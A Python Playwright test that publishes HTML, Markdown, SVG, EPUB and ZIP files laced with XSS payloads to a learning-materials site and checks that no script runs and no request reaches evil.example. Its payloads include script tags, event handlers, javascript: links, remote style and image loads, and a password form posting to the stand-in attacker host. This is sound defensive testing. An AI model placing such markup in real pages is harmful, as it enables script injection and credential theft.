"""Files that want to run something or call home, in a real browser: nothing runs, nobody is called."""

from playwright.sync_api import BrowserContext
from sqlalchemy.orm import Session

from oer.core.installation import Installation
from tests.backends.extraction import document_factories as made
from tests.browser.pages import Site
from tests.reading.factories import publish_files, zip_of

BODY = """<h1>Bài học</h1><script>alert(1); window.ran = 1</script><p onclick="window.ran=1"
onmouseover="window.ran=1" style="background:url(https://evil.example/a.png)">Nội dung</p>
<img src="https://evil.example/b.png" onerror="window.ran=1"/>
<form action="https://evil.example/c"><input name="password"/><button>Gửi</button></form>
<iframe src="https://evil.example/d"></iframe><a href="javascript:window.ran=1">bấm vào đây</a>
<link rel="stylesheet" href="https://evil.example/e.css"/><style>@import "https://evil.example/f.css";</style>"""
DRAWING = """<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99" onload="window.ran=1">
<script>alert(2)</script>
<image href="https://evil.example/g.png" width="9" height="9"/><rect width="50" height="50"/></svg>"""


def test_nothing_in_a_file_runs_or_calls_home(context: BrowserContext, installation: Installation, site: Site) -> None:
    page_of_web = f"<!doctype html><html><head><title>x</title></head><body>{BODY}</body></html>".encode()
    files = [
        ("bai.html", page_of_web),
        ("bai.md", f"# Bài\n\n{BODY}\n\n[bấm](javascript:alert(3))".encode()),
        ("hinh.svg", DRAWING.encode()),
        ("sach.epub", made.epub([BODY])),
        ("tap.zip", zip_of({"bai.html": page_of_web, "hinh.svg": DRAWING.encode()})),
    ]
    with Session(installation.database.engine) as session:
        address = f"{site.url}/materials/{publish_files(session, installation, *files).public_id}/files"
    page, asked, dialogs = context.new_page(), [], []
    page.on("request", lambda request: asked.append(request))  # noqa: PLW0108 (it takes no built-in method)
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    paths = [f"{number}/read" for number in range(1, 6)] + ["3/show", "5/members/0"]
    for path in paths:
        page.goto(f"{address}/{path}", wait_until="load")
        for link in page.get_by_text("bấm", exact=False).all():
            link.click(force=True)
        assert page.evaluate("window.ran") is None, path
    # A drawing opened by itself asks, and our policy stops it before it leaves the browser.
    assert [each.url for each in asked if "evil.example" in each.url and each.failure != "csp"] == []
    assert dialogs == []
